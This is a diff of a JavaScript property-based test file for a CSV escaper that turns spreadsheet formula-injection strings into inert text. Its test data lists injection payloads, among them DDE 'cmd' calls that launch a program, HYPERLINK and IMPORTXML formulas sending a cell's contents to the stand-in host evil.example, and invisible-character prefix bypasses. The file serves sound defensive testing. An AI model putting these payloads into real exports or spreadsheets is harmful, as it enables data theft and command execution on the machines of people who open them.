@@ -1,5 +1,5 @@
 import fc from 'fast-check';
-import { asText } from './csv.js';
+import { asText, csvOf } from './csv.js';
 
 /** What spreadsheets would run, from the lists that testers use. */
 const FORMULAS = [
@@ -7,14 +7,10 @@ const FORMULAS = [
   '+1+1',
   '-1+1',
   '@SUM(1)',
-  "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example?x="&A1,"x")',
   '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
   '-2+3+cmd|" /C calc"!A0',
   '@SUM(1+1)*cmd|" /C calc"!A0',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
   '\0=1+1',
   '\tx',
   '\rx',
@@ -25,11 +21,30 @@ const FORMULAS = [
   '\uff0b1',
   '\uff0d1',
   '\uff20SUM(1)',
+  '\u200b=1+1',
+  '\u2060\u00ad=1+1',
+  '\ufe661+1',
 ];
 
 describe('a cell of a CSV', () => {
   it.each(FORMULAS)('is text where a spreadsheet would run it: %j', (formula) => {
     expect(asText(formula)).toBe(`'${formula}`);
+  });
+
+  it.each([
+    ['x;=1+1', "x;'=1+1"],
+    [';=1', ";'=1"],
+    ['x\n=1+1', "x\n'=1+1"],
+    ['x\t@SUM(1)', "x\t'@SUM(1)"],
+    ["a|-2+3|' /C calc'", "a|'-2+3|'' /C calc'"],
+    ["=cmd|' /C calc'!A0", "'=cmd|'' /C calc'!A0"],
+    ['x; \u200b"=1', `x;' \u200b"=1`],
+    ["x;'=1", "x;''=1"],
+    ['{"why":"x;+1"}', `{"why":"x;'+1"}`],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r\n=1+1', "'\r'\n'=1+1"],
+  ])('is text too where another program would begin a cell: %j', (text, told) => {
+    expect(asText(text)).toBe(told);
   });
 
   it.each(['', 'lettre', 'a=b', '2026-11-22', '1', 'é', '{"a":"=1"}', 'it’s', '"'])(
@@ -39,12 +54,30 @@ describe('a cell of a CSV', () => {
     },
   );
 
-  it('gives back what it was when one apostrophe is taken away', () => {
+  const signs = ['=', '+', '-', '@', '\uff1d', ';', '|', '\t', '\r', '\n', '\0'];
+  const pieces = fc.constantFrom(...signs, ' ', '"', "'", ',', 'a', '\u200b', '\ufeff', '\u00ad');
+  const hostile = fc.oneof(
+    fc.array(pieces, { maxLength: 30 }).map((some) => some.join('')),
+    fc.string({ unit: 'binary' }),
+  );
+
+  it('begins no formula wherever a program may cut the line, with or without regard to quotes', () => {
     fc.assert(
-      fc.property(fc.string({ unit: 'binary' }), (text) => {
-        const cell = asText(text);
-        expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(text);
-        expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
+      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (cells) => {
+        const line = csvOf([['1', ...cells]]);
+        for (const piece of [...cells.map(asText), ...line.split(/[;|\t\r\n]/)])
+          expect(piece).not.toMatch(
+            /^[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u,
+          );
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it('gives back what it was when one apostrophe is taken from each beginning', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        expect(asText(text).replace(/(^|[;|\t\r\n])'/gu, '$1')).toBe(text);
       }),
       { numRuns: 2_000 },
     );
